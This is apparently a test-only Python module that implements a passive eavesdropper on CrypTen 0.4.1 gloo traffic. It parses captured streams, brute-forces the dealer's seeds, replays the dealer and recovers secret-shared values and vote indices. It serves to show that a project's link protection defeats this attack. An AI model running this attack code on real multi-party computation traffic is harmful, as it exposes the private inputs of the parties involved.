"""Test-only: the passive eavesdropper of issue 11, run on a capture.

What it does is what anyone on the wire between CrypTen members could do with
CrypTen 0.4.1's plain gloo traffic, knowing only public code:

1. split each TCP stream into gloo messages (a 48-byte preamble, then the
   buffer; the connecting side first sends its rank);
2. read the TTP requests party 0 sends the dealer (pickled dicts naming the
   function and sizes) and take every 8-byte message as a candidate seed;
3. try each assignment of candidate seeds to the parties by replaying the
   dealer (CrypTen's own `TTPServer` methods over `torch.Generator`s) and
   keeping the one whose first answer to party 0 appears on the wire;
4. with the dealer's view, every mask is known: any word w on the wire with
   w + mask small is an opened `x - mask` of a Beaver multiplication, so x is
   recovered; and for the one-time tables that turn index votes into one-hot
   shares, the dealer's r gives k = d + r mod C from the opened d. gloo's ring
   all-reduce sends d in segments, each final segment over two links (partial
   sums over one); their order is chosen as the one whose plurality labels
   agree with the released ones (public).

`reconstruct` returns what it recovered (nothing, on protected links).
"""
from __future__ import annotations

import io
import itertools
import pickle
import struct
from dataclasses import dataclass, field

import numpy as np

PREAMBLE = 48                      # gloo tcp: nbytes, opcode, slot, offset, length, roffset (u64 each)
SEND_BUFFER = 1
SMALL = 1 << 20                    # |x| below this counts as a recovered (small) secret


def gloo_messages(stream: bytes, with_slots: bool = False) -> list | None:
    """The buffers a gloo stream carries (with their slot: (slot, buffer)), or
    None if it is not gloo."""
    at = 0
    if len(stream) >= 8 and struct.unpack_from("<Q", stream)[0] < PREAMBLE:
        at = 8                                      # the connecting side's rank
    out = []
    while at + PREAMBLE <= len(stream):
        nbytes, opcode = struct.unpack_from("<QQ", stream, at)
        if nbytes < PREAMBLE or opcode > 8 or at + nbytes > len(stream):
            return None
        if opcode == SEND_BUFFER:
            buf = stream[at + PREAMBLE:at + nbytes]
            out.append((struct.unpack_from("<Q", stream, at + 16)[0], buf) if with_slots else buf)
            at += nbytes
        else:
            at += PREAMBLE
    return out if at == len(stream) else None


class _Requests(pickle.Unpickler):
    """Reads the TTP request dicts; refuses anything but a torch.Size."""

    def find_class(self, module, name):
        if (module, name) == ("torch", "Size"):
            import torch
            return torch.Size
        raise pickle.UnpicklingError(f"{module}.{name}")


def _request(buf: bytes):
    try:
        obj = _Requests(io.BytesIO(buf)).load()
    except Exception:               # noqa: BLE001 - most buffers are not pickles
        return None
    return obj if isinstance(obj, dict) and "function" in obj and "args" in obj else None


@dataclass
class Findings:
    streams: int = 0
    gloo_streams: int = 0
    requests: list = field(default_factory=list)
    candidate_seeds: int = 0
    seeds: tuple | None = None                    # the dealer's seeds, by party, if found
    masks: list = field(default_factory=list)     # (function, plaintext mask) in the dealer's order
    recovered: list = field(default_factory=list)  # per mask: int64 values, or None where not opened
    indices: list = field(default_factory=list)    # the class indices k it rebuilt (candidates, see _table_indices)

    def opened(self, length: int, values=(0, 1)) -> list[np.ndarray]:
        """Fully recovered secrets of `length` entries, each entry in `values`."""
        return [r for r in self.recovered if r is not None and len(r) == length and np.isin(r, values).all()]


def _replay(seeds, requests, record):
    """Run CrypTen's dealer over `requests` with these seeds; its answers."""
    import torch

    from dvsecure.mpc.compat import import_crypten

    ttp = import_crypten().mpc.provider.ttp_provider
    server = object.__new__(ttp.TTPServer)
    server.device = "cpu"
    server.generators = []
    for s in seeds:
        g = torch.Generator(device="cpu")
        g.manual_seed(s)
        server.generators.append(g)
    server.generators_cuda = [None] * len(seeds)
    plain = ttp.TTPServer._get_additive_PRSS

    def additive_prss(self, size, remove_rank=False):
        value = plain(self, size, remove_rank)
        if not remove_rank and record is not None:      # a plaintext mask: the sum of all parties' shares
            record.append((current[0], value.flatten().numpy().astype(np.uint64)))
        return value
    current = [None]
    answers = []
    from crypten.common.rng import generate_random_ring_element as ring

    for req in requests:
        current[0] = req["function"]
        if req["function"] == "onehot_table" and record is not None:
            # The dealer's r for each vote row, drawn as `tables.deal` draws (which then runs below
            # on the same generators: draw from copies, so its stream is untouched).
            size, c = tuple(req["args"][0]), req["args"][1]
            r = np.zeros(size, dtype=np.int64)
            for i, g in enumerate(server.generators):
                copy = torch.Generator(device="cpu")
                copy.set_state(g.get_state())
                r = (r + (ring(size, generator=copy).numpy().view(np.uint64) % np.uint64(c)).astype(np.int64)) % c
            record.append(("onehot_table", (r, c)))
        server._get_additive_PRSS = additive_prss.__get__(server)
        answers.append(getattr(server, req["function"])(*req["args"], **req["kwargs"]))
    return answers


def reconstruct(streams: dict[tuple, bytes], world: int, labels=None) -> Findings:
    """`labels`: the released label of each query (None if refused), public, to
    order the segments of an opened one-time-table mask."""
    f = Findings(streams=len(streams))
    buffers, slotted = [], []
    for key, stream in streams.items():
        msgs = gloo_messages(stream, with_slots=True)
        if msgs is None:
            continue
        f.gloo_streams += 1
        buffers += [b for _, b in msgs]
        slotted += [(key, slot, b) for slot, b in msgs]
    f.requests = [r for r in map(_request, buffers) if r is not None]
    candidates = sorted({struct.unpack("<q", b)[0] for b in buffers if len(b) == 8})
    f.candidate_seeds = len(candidates)
    if not f.requests or len(candidates) < world:
        return f
    wire = set(buffers)
    for seeds in itertools.permutations(candidates, world):
        first = _replay(seeds, f.requests[:1], None)[0]
        if first.numpy().tobytes() in wire:
            f.seeds = seeds
            break
    if f.seeds is None:
        return f
    _replay(f.seeds, f.requests, f.masks)
    words = np.unique(np.concatenate([np.frombuffer(b, dtype=np.uint64) for b in buffers if len(b) % 8 == 0
                                      and b]))
    for function, mask in f.masks:
        if function == "onehot_table":
            f.indices.extend(_table_indices(mask, slotted, world, labels))
            continue
        target = (np.uint64(0) - mask) - np.uint64(SMALL)         # w in [-mask - SMALL, -mask + SMALL]
        lo = np.searchsorted(words, target)
        hit = np.minimum(lo, len(words) - 1)
        x = (words[hit] + mask).view(np.int64)
        found = (lo < len(words)) & (np.abs(x) <= SMALL)
        f.recovered.append(x if found.all() else None)   # a mask that was opened in full
    return f


def _table_indices(table, slotted, world: int, labels):
    """k = d + r mod C for a one-time table (r int64[R, Q], C), d found on the wire:
    the final segments of one all-reduce (values < world * C, each seen on two
    links), in the orders whose plurality labels match the released ones: every
    candidate (when many queries are refused, a few segment orders can fit the
    labels, and the eavesdropper keeps them all: usually one, one of them the
    votes)."""
    r, c = table
    n = r.size
    seen: dict[tuple, dict[bytes, set]] = {}
    for key, slot, b in slotted:
        if len(b) % 8 or not b:
            continue
        w = np.frombuffer(b, dtype="<i8")
        if w.min() >= 0 and w.max() < world * c:
            seen.setdefault(slot, {}).setdefault(b, set()).add(key)
    for slot, segments in seen.items():
        finals = [np.frombuffer(b, dtype="<i8") for b, keys in segments.items() if len(keys) >= 2]
        if sum(x.size for x in finals) != n or labels is None or len(finals) > 8:
            continue
        matches = []
        for order in itertools.permutations(range(len(finals))):
            k = (np.concatenate([finals[i] for i in order]).reshape(r.shape) + r) % c
            tally = np.zeros((r.shape[1], c), dtype=np.int64)
            for row in k:
                tally[np.arange(r.shape[1]), row] += 1
            implied = tally.argmax(axis=1)                     # equal public weights; ties to the lowest
            if all(lab is None or lab == imp for lab, imp in zip(labels, implied)):
                matches.append(k)
        if matches:
            return matches
    return []
